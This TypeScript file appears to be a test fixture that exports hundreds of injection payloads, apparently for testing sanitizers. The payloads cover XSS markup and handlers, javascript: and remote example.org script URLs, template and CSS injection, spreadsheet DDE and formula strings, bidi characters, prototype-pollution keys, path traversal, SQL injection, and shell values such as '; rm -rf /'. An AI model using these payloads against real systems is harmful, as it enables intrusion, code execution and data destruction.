/**
 * Five hundred texts that would like to be more than words: markup, event attributes, addresses that run, styles,
 * templates, formulas, signs that turn the writing round. Each says of itself what it would have done: `__ran`.
 */
const run = 'globalThis.__ran=1'

const markup = [
  ...['script', 'SCRIPT', 'scr\u0000ipt', 'svg:script', 'script src=//example.org/x.js'].map(
    (tag) => `<${tag}>${run}</${tag.split(' ')[0]}>`,
  ),
  ...[
    'img src=x',
    'svg',
    'body',
    'video src=x',
    'audio src=x',
    'input autofocus',
    'details open',
    'marquee',
    'iframe',
    'math',
    'object data=x',
    'select autofocus',
  ].flatMap((tag) =>
    ['onerror', 'onload', 'onfocus', 'ontoggle', 'onpointerover', 'onanimationstart'].map(
      (event) => `<${tag} ${event}=${run}>`,
    ),
  ),
  ...[
    'iframe srcdoc',
    'object data',
    'embed src',
    'a href',
    'form action',
    'base href',
    'link rel=stylesheet href',
    'use href',
    'image href',
    'script src',
  ].flatMap((tag) =>
    ['javascript:', 'data:text/html,', '//example.org/'].map(
      (scheme) => `<${tag}="${scheme}${run}">x</${tag.split(' ')[0]}>`,
    ),
  ),
  ...[
    'foreignObject',
    'style',
    'template',
    'noscript',
    'title',
    'textarea',
    'xmp',
    'plaintext',
    'desc',
    'tspan',
    'text',
    'g',
  ].map((tag) => `</${tag}><script>${run}</script><${tag}>`),
  ...['animate attributeName=href to', 'set attributeName=onload to', 'animate onbegin', 'handler type'].map(
    (tag) => `<svg><${tag}="${run}"/></svg>`,
  ),
  ...[']]>', '-->', '*/', '?>', '%>', '</title>', '</style>', '</svg>', '</td></tr></table>'].map(
    (end) => `${end}<img src=x onerror=${run}>`,
  ),
]

const attributes = ['"', "'", '`', '">', "'>", '"/>', ' '].flatMap((quote) =>
  ['onload', 'onclick', 'onmouseover', 'style', 'href', 'xlink:href', 'formaction', 'xmlns:x'].map(
    (name) => `x${quote} ${name}=${quote[0]}${run}${quote[0]} `,
  ),
)

const addresses = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  'java\nscript:',
  '\u0001javascript:',
  'javascript&colon;',
  '&#106;avascript:',
  'vbscript:',
  'data:text/html;base64,',
  'blob:',
  'file:///etc/passwd#',
  '//example.org/',
  'feed:javascript:',
  'view-source:javascript:',
].flatMap((scheme) => [`${scheme}${run}`, `[x](${scheme}${run})`, `![x](${scheme}${run})`, `<${scheme}${run}>`])

const templates = [
  '{{X}}',
  '${X}',
  '#{X}',
  '<%=X%>',
  '{%X%}',
  '{X}',
  '[[X]]',
  '@{X}',
  '`${X}`',
  '*/X/*',
  '\\u0022;X//',
  "');X//",
  '"];X//',
  '\nX\n',
  '\u2028X\u2029',
].flatMap((form) => [form, `a${form}b`, `"${form}"`, `\\${form}`].map((one) => one.replace('X', run)))

const styles = [
  'expression(X)',
  'url(javascript:X)',
  '@import "//example.org/x.css";',
  'behavior:url(x.htc)',
  '-moz-binding:url(x)',
  '}*{background:url(//example.org)}',
  '</style><script>X</script>',
].flatMap((form) => [form, `x:${form}`, `;${form};`, `"}${form}`].map((one) => one.replace('X', run)))

const formulas = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  '\n=',
  ' =',
  '\u00a0=',
  '＝',
  '＋',
  '－',
  '＠',
  '\u200b=',
  "'=",
  '"=',
  ';=',
].flatMap((begin) =>
  [
    'HYPERLINK("//example.org";"x")',
    "cmd|' /C calc'!A0",
    '1+1',
    'SUM(A1:A9)',
    'WEBSERVICE("//example.org")',
    'IMPORTXML("//example.org";"//a")',
  ].map((rest) => begin + rest),
)

const signs = [
  '\u202e',
  '\u2066',
  '\u2069',
  '\u200f',
  '\u200b',
  '\ufeff',
  '\u0000',
  '\u0007',
  '\u001b[31m',
  '\u007f',
  '\ud800',
  '\udfff',
  '\uffff',
  '\u{e0001}',
  '\u2028',
  'a\u0301'.repeat(20),
].flatMap((sign) => [sign, `a${sign}<b>`, `${sign}=1`, `${sign}javascript:${run}`])

const flowcharts = [
  'end',
  'subgraph x',
  '"]; click s1 "javascript:x"',
  '%%{init: {}}%%',
  '-->|x| s1',
  '"]\n  click s1 call x()',
  ':::x',
  'style s1 fill:red',
  '&lt;script&gt;',
  '#quot;',
].flatMap((form) => [form, `\n${form}\n`, `"${form}"`, `x ${form}`])

const keys = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'blueprint',
  'undefined',
  'null',
  'NaN',
  '[object Object]',
  '../../etc/passwd',
  '..\\..\\x',
  'CON',
  '%00',
  "' OR 1=1 --",
  '$(id)',
  '`id`',
  '|id',
  '; rm -rf /',
]

export const payloads: readonly string[] = [
  ...new Set([
    ...markup,
    ...attributes,
    ...addresses,
    ...templates,
    ...styles,
    ...formulas,
    ...signs,
    ...flowcharts,
    ...keys,
  ]),
]
